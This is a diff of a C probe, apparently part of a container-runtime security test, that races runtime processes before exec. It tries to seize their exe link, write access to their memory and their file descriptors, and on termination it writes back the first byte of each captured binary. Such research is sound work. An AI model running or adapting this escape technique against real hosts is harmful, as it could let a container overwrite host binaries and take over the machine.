@@ -9,8 +9,11 @@
  * line a finding on stdout:
  *
  *   seen PID EXE          a runtime process before exec (EXE: readlink, or "?")
- *   denied PID WHAT ERRNO the kernel refused WHAT (exe, mem, fds)
+ *   denied PID exe ERRNO  the kernel refused its exe link (the first time)
  *   got PID WHAT TARGET   the kernel let us have WHAT (exe, mem, fd/N)
+ *
+ * A process is tried again on every scan until it execs: a refusal before its
+ * capabilities are dropped may be a grant after.
  *   exewrite RESULT       on SIGTERM: each kept exe reopened O_WRONLY and its first byte
  *                         written back ("ok" or errno)
  *
@@ -27,63 +30,97 @@
 
 static volatile sig_atomic_t stop;
 static int kept[4096], nkept;
-static char done_pids[1 << 16];
+static unsigned char state[1 << 16];   /* by pid: what we have had of it */
 
 static void on_term(int sig) { (void)sig; stop = 1; }
 
-static void try_pid(int pid)
+enum { SEEN = 1, GOT_EXE = 2, GOT_MEM = 4, GOT_FDS = 8, DENIED = 16 };
+
+/* After an open of /proc/<pid>/...: was it of the runtime's process, not of the program
+ * it has exec'd since? Its exe must still not be one of the container's. (A refusal
+ * means it is still ours and non-dumpable: then the open we made went through while it
+ * was not, which counts.) */
+static int still_ours(int pid)
 {
     char path[64], target[512];
     snprintf(path, sizeof(path), "/proc/%d/exe", pid);
     ssize_t n = readlink(path, target, sizeof(target) - 1);
+    if (n < 0)
+        return errno != ENOENT;
+    target[n] = 0;
+    return strcmp(target, "/bin/busybox") != 0 && strcmp(target, "/attacker") != 0;
+}
+
+/* Called on every scan while the process has not exec'd: a refusal now may be a grant a
+ * moment later (capabilities are dropped just before exec). */
+static void try_pid(int pid)
+{
+    char path[64], target[512];
+    unsigned char *st = &state[pid & 0xffff];
+    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+    ssize_t n = readlink(path, target, sizeof(target) - 1);
+    int err = errno;
     if (n >= 0) {
         target[n] = 0;
         if (strcmp(target, "/bin/busybox") == 0 || strcmp(target, "/attacker") == 0)
             return;   /* the container's own programs: fair game, not ours */
-    } else if (errno == ENOENT) {
+    } else if (err == ENOENT) {
         return;       /* gone, or a zombie */
     } else {
         strcpy(target, "?");
     }
-    if (pid < (int)sizeof(done_pids) && done_pids[pid])
-        return;
-    if (pid < (int)sizeof(done_pids))
-        done_pids[pid] = 1;
-    printf("seen %d %s\n", pid, target);
-    if (n < 0)
-        printf("denied %d exe %d\n", pid, errno);
-    int fd = open(path, O_PATH | O_CLOEXEC);
-    if (fd >= 0) {
-        printf("got %d exe %s\n", pid, target);
-        if (nkept < 4096)
-            kept[nkept++] = fd;
+    if (!(*st & SEEN)) {
+        *st |= SEEN;
+        printf("seen %d %s\n", pid, target);
+    }
+    if (n < 0 && !(*st & DENIED)) {
+        *st |= DENIED;
+        printf("denied %d exe %d\n", pid, err);
+    }
+    int fd;
+    if (!(*st & GOT_EXE) && (fd = open(path, O_PATH | O_CLOEXEC)) >= 0) {
+        /* The process may have exec'd since the readlink: what did we get? */
+        char self[64], got[512];
+        snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
+        ssize_t g = readlink(self, got, sizeof(got) - 1);
+        got[g >= 0 ? g : 0] = 0;
+        if (strcmp(got, "/bin/busybox") == 0) {
+            close(fd);
+        } else {
+            *st |= GOT_EXE;
+            printf("got %d exe %s\n", pid, got);
+            if (nkept < 4096)
+                kept[nkept++] = fd;
+            else
+                close(fd);
+        }
     }
     snprintf(path, sizeof(path), "/proc/%d/mem", pid);
-    fd = open(path, O_RDWR | O_CLOEXEC);
-    if (fd >= 0) {
-        printf("got %d mem rw\n", pid);
+    if (!(*st & GOT_MEM) && (fd = open(path, O_RDWR | O_CLOEXEC)) >= 0) {
+        if (still_ours(pid)) {
+            *st |= GOT_MEM;
+            printf("got %d mem rw\n", pid);
+        }
         close(fd);
-    } else {
-        printf("denied %d mem %d\n", pid, errno);
     }
     snprintf(path, sizeof(path), "/proc/%d/fd", pid);
-    DIR *d = opendir(path);
-    if (!d) {
-        printf("denied %d fds %d\n", pid, errno);
-    } else {
+    DIR *d;
+    if (!(*st & GOT_FDS) && (d = opendir(path))) {
         struct dirent *de;
         while ((de = readdir(d))) {
             if (de->d_name[0] == '.')
                 continue;
-            char fdpath[96];
+            char fdpath[300];
             snprintf(fdpath, sizeof(fdpath), "/proc/%d/fd/%s", pid, de->d_name);
             ssize_t m = readlink(fdpath, target, sizeof(target) - 1);
             target[m >= 0 ? m : 0] = 0;
             int f = open(fdpath, O_PATH | O_CLOEXEC);
-            if (f >= 0) {
+            if (f >= 0 && still_ours(pid)) {
+                *st |= GOT_FDS;
                 printf("got %d fd/%s %s\n", pid, de->d_name, target);
-                close(f);
             }
+            if (f >= 0)
+                close(f);
         }
         closedir(d);
     }
